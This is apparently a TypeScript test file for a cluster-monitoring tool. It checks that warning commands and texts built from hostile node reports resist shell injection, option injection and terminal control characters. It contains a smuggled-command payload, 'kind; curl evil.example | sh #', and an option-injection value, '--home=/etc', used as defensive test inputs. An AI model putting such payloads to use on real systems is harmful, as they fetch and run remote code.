// Every warning, from a cluster whose members put hostile text into every field that other nodes accept.

import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import { nodeView } from '../../../src/core/node/node-view.ts';
import { nodeIds } from '../../../src/core/node/presence-view.ts';
import type { State } from '../../../src/core/state.ts';
import { sentenceTemplate } from '../../../src/core/text/sentence.ts';
import { showable } from '../../../src/core/text/single-line.ts';
import { foundWarnings } from '../../../src/core/warnings/cluster-warnings.ts';
import { type FoundWarning, shownWarning, WARNING_KINDS } from '../../../src/core/warnings/warning.ts';
import { part } from '../../../src/tui/part.ts';
import { HOSTILE_SIGN } from '../../support/hostile-events.ts';
import { hostileMoments } from '../../support/hostile-world.ts';

test('every kind of warning is among those that are looked at', async () => {
  const ids = (await hostileWarnings('')).map(({ id }) => id);
  const isFound = (kind: string): boolean => ids.some(id => id === kind || id.startsWith(`${kind} `));
  // The first needs sources that the simulation does not have, the second 200 warnings of one kind; neither has a text of others
  // that no other warning has.
  expect(Object.keys(WARNING_KINDS).filter(kind => !isFound(kind))).toEqual(['stale late', 'more']);
});

test('a command of a warning runs nothing else, for all values that members report', async () => {
  const found = await hostileWarnings('');
  const commands = commandsOf(found);
  expect(commands.length).toBeGreaterThan(10);
  expect(commands.filter(command => HOSTILE_SIGN.test(command)).length).toBeGreaterThan(3);
  for (const command of commands) expect(showable(command)).toBe(command);
  const { called, texts } = runs(commands);
  expect(texts).toBe('');
  expect(
    [...new Set(called.map(([program]) => program))].filter(name => !PROGRAMS.includes(name ?? '')),
  ).toEqual([]);
});

test('for any reports of members, no value becomes an option of a command', async () => {
  const commands = commandsOf(await hostileWarnings('--home=/etc'));
  const { called } = runs(commands);
  const words = called.flatMap(call => call.map((word, at) => ({ word, before: call.slice(0, at) })));
  const hostile = words.filter(({ word }) => word.startsWith('--home=/etc'));
  expect(hostile.length).toBeGreaterThan(3);
  // After `--` nothing is an option; after one that takes a value the next word is that value.
  expect(
    hostile.filter(
      ({ before }) =>
        !before.includes('--') && !/^(-i|-d|-e|-s|dev|-setnetworkserviceenabled)$/.test(before.at(-1) ?? ''),
    ),
  ).toEqual([]);
});

test('for any reports of members, a foreign text is next to the sentence of a warning and never in it', async () => {
  const found = await hostileWarnings('');
  for (const { title, why } of found)
    for (const texts of [title, why]) expect(sentenceTemplate(texts)).not.toMatch(HOSTILE_SIGN);
  expect(found.some(({ title }) => title.values.some(value => HOSTILE_SIGN.test(value)))).toBe(true);
});

test('for any reports of members, a warning controls no terminal', async () => {
  for (const { title, why, on = '', command = '' } of (await hostileWarnings('')).map(shownWarning))
    for (const text of [title, why, on, command])
      expect(part(text).text).not.toMatch(/\p{Cc}|\u{200b}|\u{202e}|\u{2066}|\u{e0041}/u);
});

/** The same for several tests: a quarter of an hour of a cluster. */
const hostileWarnings = (prefix: string): Promise<readonly FoundWarning[]> => {
  const known = FOUND.get(prefix) ?? warningsOf(prefix);
  FOUND.set(prefix, known);
  return known;
};

const FOUND = new Map<string, Promise<readonly FoundWarning[]>>();

/** One of each kind and of each command, at some moment. */
const warningsOf = async (prefix: string): Promise<readonly FoundWarning[]> => {
  const found = new Map<string, FoundWarning>();
  for (const hasTrueLinks of [true, false])
    for await (const { state: reported, nowMs } of hostileMoments({ prefix, hasTrueLinks })) {
      const state = withNotedKinds(reported, `${prefix}kind; curl evil.example | sh #`);
      const views = nodeIds(state).map(node => nodeView(state, node, nowMs));
      for (const warning of foundWarnings({ state, views, nowMs })) found.set(warning.id, warning);
    }
  return [...found.values()];
};

/** Kinds that no version has, and more entries than any machine has: the simulation writes neither. */
const withNotedKinds = (state: State, kind: string): State => {
  const [node] = nodeIds(state);
  const noted = { [kind]: { class: 'durable', epoch: 1, seq: 1, count: 3 } } as const;
  return node === undefined
    ? state
    : { ...state, unknownKinds: { [node]: noted }, refusedKinds: { [node]: noted } };
};

const commandsOf = (found: readonly FoundWarning[]): readonly string[] => [
  ...new Set(found.flatMap(({ command }) => (command === undefined ? [] : [command]))),
];

/** What bash calls, where every known program only prints its words and no other can be found. */
const runs = (
  commands: readonly string[],
): { readonly called: readonly (readonly string[])[]; readonly texts: string } => {
  const script = [
    'PATH=/nonexistent',
    // In a pipe one prints after the other: each reads its input first.
    ...PROGRAMS.map(
      name => `${name}() { while read -r _; do :; done; printf '%s\\0' ${name} "$@" $'\\n' >&3; }`,
    ),
    'sudo() { "$@"; }',
    ...commands.map(command => `( ${command}\n) < /dev/null`),
  ].join('\n');
  const output = execFileSync('bash', ['--norc', '-c', `{ ${script}\n} 3>&1 1>/dev/null 2>&3`], {
    encoding: 'utf8',
  });
  const calls = output.split('\0\n\0');
  const texts = calls.pop() ?? '';
  return { called: calls.map(call => call.split('\0')), texts };
};

const PROGRAMS: readonly string[] = [
  'lspci',
  'plimsoll',
  'grep',
  'dmesg',
  'ip',
  'ifconfig',
  'nvidia-smi',
  'amd-smi',
  'networksetup',
  'ibv_devinfo',
  'rdma_ctl',
  'systemctl',
  'softwareupdate',
  'du',
  'sort',
  'top',
  'powershell',
];
